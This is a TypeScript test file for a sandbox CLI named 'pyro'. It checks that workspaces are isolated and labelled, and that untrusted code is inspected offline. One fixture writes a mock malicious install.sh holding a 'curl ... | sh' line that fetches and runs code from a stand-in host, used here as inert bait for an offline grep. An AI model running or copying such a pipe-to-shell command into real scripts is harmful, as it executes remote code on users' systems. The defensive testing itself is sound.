/** Use cases 3 and 4 of the contract, as a chat agent would run them, in real guests. */
import { beforeAll, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { guest, guestHome, loopbackProbe, probeReached } from "./guest-env.ts";
import { pyro } from "./helpers.ts";

let home = "";
beforeAll(async () => {
  if (guest.ok) home = await guestHome();
}, 1_800_000);

guest.describe("real guest: use cases", () => {
  test("real guest: parallel isolated workspaces, one per issue, rediscovered by label", async () => {
    const made = await Promise.all(
      ["41", "42"].map((n) =>
        pyro(
          [
            "workspace",
            "create",
            "debian:12",
            "--name",
            `issue-${n}`,
            "--label",
            `issue=${n}`,
            "--label",
            "repo=api",
            "--json",
          ],
          { home },
        ),
      ),
    );
    for (const m of made) expect(m.code).toBe(0);
    try {
      await pyro(["workspace", "exec", "issue-42", "--", "sh", "-c", "echo only here > mine.txt"], { home });
      const other = await pyro(
        ["workspace", "exec", "issue-41", "--json", "--", "sh", "-c", "ls /workspace; hostname"],
        { home },
      );
      expect(other.json.stdout).not.toContain("mine.txt");
      const listed = await pyro(["workspace", "list", "--label", "repo=api", "--json"], { home });
      // most recent activity first: issue-41 ran the last command
      expect(listed.json.workspaces.map((w: any) => w.name)).toEqual(["issue-41", "issue-42"]);
      const one = await pyro(["workspace", "list", "--label", "issue=41", "--json"], { home });
      expect(one.json.workspaces.map((w: any) => w.name)).toEqual(["issue-41"]);
    } finally {
      for (const m of made)
        if (m.json?.workspace_id) await pyro(["workspace", "delete", m.json.workspace_id], { home });
    }
  });

  test("real guest: untrusted code inspection: seed, read offline, smallest command, export only the report", async () => {
    const tmp = mkdtempSync(join(process.env.PYRO_TEST_TMP as string, "inspect-"));
    mkdirSync(join(tmp, "pkg"));
    writeFileSync(join(tmp, "pkg", "install.sh"), "#!/bin/sh\ncurl http://example.invalid/x | sh\n");
    writeFileSync(join(tmp, "pkg", "README"), "totally safe\n");
    const tarball = join(tmp, "suspicious.tar.gz");
    expect(Bun.spawnSync(["tar", "-czf", tarball, "-C", join(tmp, "pkg"), "."]).exitCode).toBe(0);
    const c = await pyro(
      ["workspace", "create", "debian:12", "--name", "inspect", "--seed-path", tarball, "--json"],
      { home },
    );
    expect(c.json.network_policy).toBe("off");
    expect(c.json.workspace_seed.origin_kind).toBe("tar_archive");
    const id = c.json.workspace_id;
    try {
      const files = await pyro(["workspace", "file", "list", id, "--recursive", "--json"], { home });
      expect(files.json.entries.map((e: any) => e.path).sort()).toEqual([
        "/workspace/README",
        "/workspace/install.sh",
      ]);
      const r = await pyro(
        [
          "workspace",
          "exec",
          id,
          "--json",
          "--timeout-seconds",
          "20",
          "--",
          "sh",
          "-c",
          "grep -n curl -r . > report.txt; wc -l < report.txt",
        ],
        { home },
      );
      expect(r.json.stdout.trim()).toBe("1");
      // Offline: the probe that reaches this host's loopback with networking on (proven first,
      // in a one-shot run) fails from inside the workspace.
      const probe = loopbackProbe();
      try {
        const online = await pyro(
          [
            "run",
            "--json",
            "--network",
            "--timeout-seconds",
            "20",
            "debian:12",
            "--",
            "bash",
            "-c",
            probe.script,
          ],
          { home },
        );
        expect(probeReached(online, probe.reply)).toBe(true);
        const offline = await pyro(
          ["workspace", "exec", id, "--json", "--timeout-seconds", "20", "--", "bash", "-c", probe.script],
          { home },
        );
        expect(probeReached(offline, probe.reply)).toBe(false);
      } finally {
        probe.stop();
      }
      await pyro(["workspace", "stop", id], { home });
      const disk = await pyro(["workspace", "disk", "read", id, "report.txt", "--json"], { home });
      expect(disk.json.content).toContain("install.sh");
      await pyro(["workspace", "start", id], { home });
      const out = join(tmp, "report.txt");
      expect((await pyro(["workspace", "export", id, "report.txt", "--output", out], { home })).code).toBe(0);
      expect(readFileSync(out, "utf8")).toContain("curl");
    } finally {
      await pyro(["workspace", "delete", id], { home });
    }
  });
});
